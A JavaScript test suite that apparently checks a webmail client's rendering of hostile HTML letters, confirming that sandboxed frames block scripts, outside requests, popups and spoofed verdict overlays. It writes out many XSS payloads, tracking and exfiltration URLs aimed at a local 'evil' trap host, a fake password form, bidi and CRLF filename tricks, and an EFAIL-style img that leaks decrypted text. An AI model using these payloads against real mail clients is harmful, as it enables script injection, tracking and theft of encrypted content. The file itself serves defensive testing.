// SPDX-License-Identifier: MPL-2.0
// Letters that would like to be more than letters: nothing is asked of anybody, nothing outside their frame changes.
import assert from "node:assert/strict";
import {after, before, test} from "node:test";
import {execFileSync} from "node:child_process";
import {writeFileSync} from "node:fs";
import {createServer} from "node:http";
import {join} from "node:path";
import {Playground, browser, missing, open, picture} from "./browser.mjs";
import {ALICE, BOB, deliver, inbox, letter, postseal} from "./mail.mjs";

const skip = missing ?? false;
let playground, chrome, page, trap, evil, dialogs, popups;

// A host that is there and notes each question, so that none is missed because it fails early.
async function setTrap() {
	const asked = [];
	const server = createServer((request, response) => {
		asked.push(request.url);
		response.end();
	});
	await new Promise((done) => server.listen(0, "127.0.0.1", done));
	return {asked, server, url: `http://127.0.0.1:${server.address().port}`};
}

before(async () => {
	if (skip) {
		return;
	}
	trap = await setTrap();
	evil = trap.url;
	[playground, chrome] = await Promise.all([Playground.start(), browser()]);
	page = await open(chrome, playground);
	[dialogs, popups] = [[], []];
	page.on("dialog", (dialog) => {
		dialogs.push(dialog.message());
		dialog.dismiss().catch(() => {}); // its page may be closed already
	});
	page.context().on("page", (other) => popups.push(other.url()));
});

after(async () => {
	await chrome?.close();
	await playground?.stop();
	trap?.server.close();
});

const HTML = {
	scripts: () => `<script>parent.document.title="pwned";alert(1)</script><img src=x onerror="alert(2)"><body onload=alert(3)>
<a href="javascript:alert(4)">javascript</a><details ontoggle=alert(5) open>x</details><math><mtext><script>alert(6)</script></mtext></math>`,
	"style that reaches out": () => `<style>@import "${evil}/import.css";@font-face{font-family:x;src:url(${evil}/font)}
body{background:url(${evil}/bg.png);font-family:x;cursor:url(${evil}/cursor),auto}li{list-style-image:url(${evil}/li)}
p::after{content:url(${evil}/after)}div{background-image:image-set("${evil}/set" 1x)}</style><ul><li>a</ul><p>b<div>c</div>
<p style="background:u\\72l(${evil}/escaped)">d</p><p style="background:/**/url( '${evil}/comment' )">e</p><link rel=stylesheet href="${evil}/link.css">
<link rel=prefetch href="${evil}/prefetch"><link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="${evil}">`,
	"images from far": () => `<img src="${evil}/a.png"><img srcset="${evil}/b.png 1x, ${evil}/c.png 2x"><picture><source srcset="${evil}/d.png"><img></picture>
<video poster="${evil}/e.png" src="${evil}/f.mp4" autoplay></video><audio src="${evil}/g" autoplay></audio><input type=image src="${evil}/h">
<table background="${evil}/i"><tr><td background="${evil}/j">x</table><body background="${evil}/k"><img src="//127.0.0.1:${new URL(evil).port}/l">
<img src="\t${evil}/m"><img lowsrc="${evil}/n" dynsrc="${evil}/o"><bgsound src="${evil}/p">`,
	"forms and moves": () => `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/" target="_top"><form action="${evil}/form" target=_top>
<input name=password autofocus><button>Log in again</button></form><a href="${evil}/top" target="_top">to the top</a><a href="${evil}/blank" target="_blank" ping="${evil}/ping">new window</a>
<a href="mailto:${ALICE}?subject=x">mailto</a><a href="/keys/${BOB}/">local</a><area href="${evil}/area" shape=default>`,
	"frames and objects": () => `<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>alert(7)</script><img src='${evil}/srcdoc'>"></iframe><object data="${evil}/object"></object>
<embed src="${evil}/embed"><frameset><frame src="${evil}/fs"></frameset><applet code="${evil}/applet"></applet><portal src="${evil}/portal"></portal><template shadowrootmode=open><img src="${evil}/shadow"></template>`,
	"svg and mathml": () => `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(8)"><script>alert(9)</script><image href="${evil}/image" /><use href="${evil}/use#a"/>
<a xlink:href="javascript:alert(10)"><text>x</text></a><foreignObject><iframe src="${evil}/fo"></iframe></foreignObject><animate onbegin=alert(11) attributeName=x /><set attributeName=href to="javascript:alert(12)"/></svg>
<math href="javascript:alert(13)"><maction actiontype="statusline#${evil}/math" xlink:href="${evil}/maction">x</maction></math><svg><style><img src="${evil}/mutation"></style></svg><noscript><p title="</noscript><img src=${evil}/noscript>">`,
	"our own look": () => `<link rel=stylesheet href="/static/style.css"><div style="position:fixed;top:-40rem;left:0;width:200vw;height:300vh;z-index:99999;background:#e4f2ea">
<section class="verdict confidential"><h2 id="verdict">Confidential: sealed and signed by Bob</h2></section><p id=inside>This letter is verified.</p></div>`,
	"a huge table": () => `<table width=100000 border=1>${"<tr>".repeat(300)}${"<td width=9000>x".repeat(40)}</table>${"<div>".repeat(3000)}deep${"<b><i>".repeat(2000)}<p style="width:99999px;height:9999999px">big</p>`,
};

// Sealed by somebody who has Alice's certificate and signs nothing, with the mode that can be changed on the way.
function sealedToAlice(message) {
	const certificate = join(playground.folder, "alice.pem");
	writeFileSync(certificate, postseal(playground, "alice", ["account", "cert", ALICE]));
	const [, header, content] = /^(.*?\n)MIME-Version.*?(Content-Type.*)$/s.exec(message);
	const cms = execFileSync("openssl", ["cms", "-encrypt", "-binary", "-outform", "DER", "-aes-256-cbc", "-recip", certificate], {input: content});
	return `${header}MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\nContent-Transfer-Encoding: base64\n\n` +
		cms.toString("base64").replace(/.{76}/g, "$&\n");
}

async function show(html, more) {
	const subject = `hostile ${Math.random()}`;
	const id = deliver(playground, "alice", letter({from: "Eve <eve@evil.example>", subject, type: "text/html; charset=utf-8", text: html, ...more}));
	await page.goto(`${playground.origin}/mail/${ALICE}/INBOX/${id}/`);
	await page.waitForSelector("iframe.frame");
	return page.frames().find((frame) => frame !== page.mainFrame());
}

// What stands around the frame, without the warnings that a letter earns; and what lies on top where the verdict is.
function around() {
	return page.evaluate(() => {
		const [verdict, frame] = [".verdict", "iframe"].map((name) => document.querySelector(name).getBoundingClientRect());
		const top = document.elementFromPoint(verdict.x + 20, verdict.y + 20);
		return [document.querySelector(".verdict h2").innerText.trim(), verdict.x, verdict.y, verdict.width, frame.x, frame.width, frame.height,
			top.closest("section")?.className, getComputedStyle(document.body).backgroundColor, document.title.startsWith("hostile"),
			document.scrollingElement.scrollWidth <= innerWidth];
	});
}

let calm;

async function assertQuiet(name) {
	assert.deepEqual(trap.asked, [], name);
	assert.deepEqual(page.requests.filter((url) => !url.startsWith(`${playground.origin}/`)), [], name);
	assert.deepEqual([dialogs, popups], [[], []], name);
	assert.deepEqual(await around(), calm, name);
}

test("without us the letters would do it: the trap works", {skip}, async () => {
	// Without scripts: what is asked is asked by markup, and no dialog outlives the page.
	const bare = await (await chrome.newContext({javaScriptEnabled: false})).newPage();
	for (const name of ["style that reaches out", "images from far", "frames and objects"]) {
		trap.asked.length = 0;
		await bare.setContent(HTML[name](), {waitUntil: "commit"});
		for (let i = 0; i < 100 && trap.asked.length < 2; i++) {
			await bare.waitForTimeout(50);
		}
		assert.ok(trap.asked.length >= 2, name);
	}
	await bare.context().close();
	trap.asked.length = 0;
});

test("a harmless letter", {skip}, async () => {
	const frame = await show("<p>How are <b>you</b>?</p>");
	assert.equal(await frame.locator("b").innerText(), "you");
	calm = await around();
	assert.match(calm[0], /Not protected/);
});

for (const [name, html] of Object.entries(HTML)) {
	test(`${name}: nothing is asked, nothing around it moves`, {skip}, async () => {
		const frame = await show(html());
		await page.waitForTimeout(300);
		await assertQuiet(name);
		assert.equal(await frame.locator("script, form, iframe, frame, object, embed, svg, math, meta[http-equiv=refresh], base, link, input, button").count(), 0);
		assert.equal(new URL(page.url()).origin, playground.origin);
		await picture(page, `hostile-${name.replaceAll(" ", "-")}`);
	});
}

test("whatever is pressed inside leads nowhere", {skip}, async () => {
	const frame = await show(HTML["forms and moves"]() + HTML.scripts());
	const here = page.url();
	for (const link of await frame.locator("a").all()) {
		await link.click({timeout: 2000, noWaitAfter: true}).catch(() => {});
	}
	await page.waitForTimeout(300);
	assert.equal(page.url(), here);
	await assertQuiet("pressed");
});

test("the frame is of nobody: no scripts, no storage, no way to the page", {skip}, async () => {
	const frame = await show("<p>x</p>");
	assert.equal(await page.locator("iframe").getAttribute("sandbox"), "");
	const answer = await page.request.get(frame.url());
	assert.match(answer.headers()["content-security-policy"], /sandbox;.*default-src 'none'/);
	const tab = await page.context().newPage();
	await tab.goto(frame.url()); // even opened by itself
	assert.equal(await tab.evaluate(() => origin).catch(() => "null"), "null");
	await tab.close();
	popups.length = 0;
});

test("an attached picture is shown in the frame, and asked of nobody", {skip}, async () => {
	const png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
	const text = `--b\nContent-Type: text/html\n\n<img src="cid:one@x" width=40 height=40><img src="cid:svg@x"><img src="cid:none@x">\n--b\nContent-Type: image/png\nContent-ID: <one@x>\nContent-Transfer-Encoding: base64\n\n${png}\n` +
		`--b\nContent-Type: image/svg+xml\nContent-ID: <svg@x>\n\n<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}/cid"/></svg>\n--b--\n`;
	const frame = await show(text, {type: "multipart/related; boundary=b"});
	const images = await frame.locator("img").evaluateAll((all) => all.map((one) => one.getAttribute("src") ?? ""));
	assert.ok(images.some((src) => src.startsWith("data:image/png;base64,")));
	assert.ok(images.every((src) => src === "" || src.startsWith("data:image/png")), String(images));
	await page.waitForTimeout(200);
	assert.deepEqual(trap.asked, []);
});

test("fields that turn around or break lines stay what they are", {skip}, async () => {
	const bidi = Buffer.from("\u202egnp.exe\u2066 \u0007<img src=x onerror=alert(1)>").toString("base64");
	const id = deliver(playground, "alice", letter({from: `=?utf-8?B?${bidi}?= <eve@evil.example>`, subject: `=?utf-8?B?${bidi}?=`,
		type: "multipart/mixed; boundary=b", text: `--b\n\nhi\n--b\nContent-Type: text/html\nContent-Disposition: attachment; filename*=utf-8''%E2%80%AEgnp.exe%0D%0AX:%20y%2f..%2f..%2fpasswd.html\n\n<script>alert(1)</script>\n--b--\n`}));
	for (const path of ["", `${id}/`]) {
		await page.goto(`${playground.origin}/mail/${ALICE}/INBOX/${path}`);
		const text = await page.locator("main").innerText();
		assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069\u0007]/);
		assert.equal(await page.locator("main img").count(), 0);
	}
	assert.deepEqual(dialogs, []);
});

test("dangerous attachments are files, never pages", {skip}, async () => {
	const types = ["text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/javascript", "application/pdf", "message/rfc822"];
	const parts = types.map((type, i) => `--b\nContent-Type: ${type}\nContent-Disposition: attachment; filename="a${i}.html"\n\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n`);
	const id = deliver(playground, "alice", letter({from: "eve@evil.example", subject: "files", type: "multipart/mixed; boundary=b", text: `--b\n\nhi\n${parts.join("")}--b--\n`}));
	await page.goto(`${playground.origin}/mail/${ALICE}/INBOX/${id}/`);
	const links = await page.locator(".attachment a").evaluateAll((all) => all.map((one) => one.href));
	assert.ok(links.length >= types.length - 1, String(links));
	for (const link of links) {
		const headers = (await page.request.get(link)).headers();
		assert.match(headers["content-disposition"], /^attachment/);
		assert.match(headers["content-security-policy"], /sandbox/);
		assert.equal(headers["x-content-type-options"], "nosniff");
		assert.doesNotMatch(headers["content-type"], /html|svg|xml|javascript/);
	}
	const [file] = await Promise.all([page.waitForEvent("download"), page.locator(".attachment a").first().click()]);
	assert.match(file.suggestedFilename(), /^a0/);
	assert.deepEqual([dialogs, popups], [[], []]);
});

// Whoever can change a sealed letter on its way can put HTML around the text: it is not shown as HTML, and not quoted.
test("what was only encrypted is text, and is not quoted", {skip}, async () => {
	const html = letter({from: "Eve <eve@evil.example>", subject: "only sealed", type: "text/html", text: `<p>secret</p><img src="${evil}/efail?`});
	const id = deliver(playground, "alice", sealedToAlice(html));
	await page.goto(`${playground.origin}/mail/${ALICE}/INBOX/${id}/`);
	assert.equal(await page.locator("iframe").count(), 0);
	assert.match(await page.locator("pre.text").innerText(), /secret/);
	await page.getByRole("link", {name: "Reply", exact: true}).click();
	assert.doesNotMatch(await page.getByLabel("Letter", {exact: true}).inputValue(), /secret/);
	assert.deepEqual(trap.asked, []);
});

test("the list of all of them is calm", {skip}, async () => {
	await inbox(page, playground, ALICE);
	assert.deepEqual(page.requests.filter((url) => !url.startsWith(`${playground.origin}/`)), []);
	assert.ok(await page.evaluate(() => document.scrollingElement.scrollWidth <= innerWidth));
	await picture(page, "hostile-list");
});
